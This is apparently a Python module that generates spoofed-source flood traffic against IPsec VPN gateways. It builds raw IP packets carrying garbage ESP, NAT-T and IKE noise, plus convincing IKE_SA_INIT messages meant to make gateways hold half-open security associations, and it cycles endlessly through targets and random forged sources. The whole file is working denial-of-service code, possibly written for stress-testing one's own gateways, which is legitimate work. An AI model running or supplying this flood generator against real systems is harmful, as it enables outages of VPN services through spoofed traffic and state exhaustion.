"""What a stranger can put on the wire without a key: whole IP packets towards a gateway's VIP. Pure.

`esp`   garbage in ESP (RFC 4303): an SPI that no SA has, then noise.
`natt`  the same in UDP on port 4500 (RFC 3948): the kernel must look at every packet of it.
`ike`   noise on UDP 500 and, behind the four zero bytes of RFC 3948, on 4500: charon must read and drop it.
`init`  an IKE_SA_INIT that a gateway must take seriously (RFC 7296, section 1.2): a responder that does not ask for cookies
        keeps a half-open IKE_SA of it.

The sources are spoofed, as a flood's are. IPv4 headers leave identification and checksum to the kernel (raw(7)).
"""

from __future__ import annotations

import enum
import ipaddress
import random
import struct
from collections.abc import Iterator

Address = ipaddress.IPv4Address | ipaddress.IPv6Address
Network = ipaddress.IPv4Network | ipaddress.IPv6Network

ESP, UDP = 50, 17
IKE_PORT, NATT_PORT = 500, 4500
TTL = 64
GARBAGE_BYTES = 64
"""Small packets cost a receiver most for their bytes."""
SMALLEST_SPI = 256
"""RFC 4303, section 2.1: 1 to 255 are reserved."""


class Kind(enum.StrEnum):
    """What a flood is made of."""

    ESP = "esp"
    NATT = "natt"
    IKE = "ike"
    INIT = "init"


def packets(kinds: list[Kind], targets: list[Address], sources: list[Network], rng: random.Random) -> Iterator[bytes]:
    """Without end: every kind at every target in turn, each from another source of the target's family.

    Raises ValueError where a target's family has no source.
    """
    by_family = {version: [net for net in sources if net.version == version] for version in (4, 6)}
    for target in targets:
        if not by_family[target.version]:
            raise ValueError(f"no source prefix for {target}")
    while True:
        for kind in kinds:
            for target in targets:
                network = rng.choice(by_family[target.version])
                source = network[rng.randrange(1, min(network.num_addresses - 1, 2**32))]
                yield packet(kind, source, target, rng)


def packet(kind: Kind, source: Address, target: Address, rng: random.Random) -> bytes:
    """One whole IP packet."""
    port = rng.randrange(1024, 65536)
    match kind:
        case Kind.ESP:
            return ip(source, target, ESP, garbage_esp(rng))
        case Kind.NATT:
            return ip(source, target, UDP, udp(source, target, port, NATT_PORT, garbage_esp(rng)))
        case Kind.IKE:
            natt = rng.random() < 0.5
            noise = rng.randbytes(GARBAGE_BYTES)
            body = bytes(4) + noise if natt else noise
            return ip(source, target, UDP, udp(source, target, port, NATT_PORT if natt else IKE_PORT, body))
        case Kind.INIT:
            return ip(source, target, UDP, udp(source, target, port, IKE_PORT, ike_sa_init(rng)))


def garbage_esp(rng: random.Random) -> bytes:
    return struct.pack("!II", rng.randrange(SMALLEST_SPI, 2**32), rng.randrange(1, 2**32)) + rng.randbytes(GARBAGE_BYTES)


IKE_SA_INIT, INITIATOR = 34, 0x08
SA, KE, NONCE = 33, 34, 40
ENCR, PRF, DH = 1, 2, 4
AES_GCM_16, HMAC_SHA2_384, CURVE25519 = 20, 6, 31
KEY_LENGTH_256 = struct.pack("!HH", 0x800E, 256)


def ike_sa_init(rng: random.Random) -> bytes:
    """The first message of a client: a proposal that the gateways' configuration accepts, a key share, a nonce.

    Any 32 bytes are a public value of Curve25519 (RFC 7748), so the gateway cannot tell it from a real one.
    """
    transforms = [(ENCR, AES_GCM_16, KEY_LENGTH_256), (PRF, HMAC_SHA2_384, b""), (DH, CURVE25519, b"")]
    encoded = b""
    for number, (kind, ident, attributes) in enumerate(transforms, 1):
        more = 0 if number == len(transforms) else 3  # RFC 7296, section 3.3.2
        encoded += struct.pack("!BxHBxH", more, 8 + len(attributes), kind, ident) + attributes
    proposal = struct.pack("!BxHBBBB", 0, 8 + len(encoded), 1, 1, 0, len(transforms)) + encoded  # section 3.3.1: IKE, no SPI
    payloads = [
        (SA, proposal),
        (KE, struct.pack("!Hxx", CURVE25519) + rng.randbytes(32)),
        (NONCE, rng.randbytes(32)),
    ]
    body = b""
    for number, (_, content) in enumerate(payloads):
        following = payloads[number + 1][0] if number + 1 < len(payloads) else 0
        body += struct.pack("!BxH", following, 4 + len(content)) + content
    header = rng.randbytes(8) + bytes(8) + struct.pack("!BBBBII", SA, 0x20, IKE_SA_INIT, INITIATOR, 0, 28 + len(body))
    return header + body


def udp(source: Address, target: Address, source_port: int, port: int, body: bytes) -> bytes:
    """With its checksum, which IPv6 demands (RFC 8200, section 8.1)."""
    length = 8 + len(body)
    datagram = struct.pack("!HHHH", source_port, port, length, 0) + body
    pseudo = source.packed + target.packed + struct.pack("!II", length, UDP)
    return datagram[:6] + struct.pack("!H", checksum(pseudo + datagram) or 0xFFFF) + datagram[8:]


def ip(source: Address, target: Address, protocol: int, body: bytes) -> bytes:
    """The IP header in front of `body`."""
    if target.version == 4:
        start = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, TTL, protocol, 0)
    else:
        start = struct.pack("!IHBB", 6 << 28, len(body), protocol, TTL)
    return start + source.packed + target.packed + body


def checksum(data: bytes) -> int:
    """RFC 1071."""
    padded = data + bytes(len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total >> 16) + (total & 0xFFFF)
    return ~total & 0xFFFF
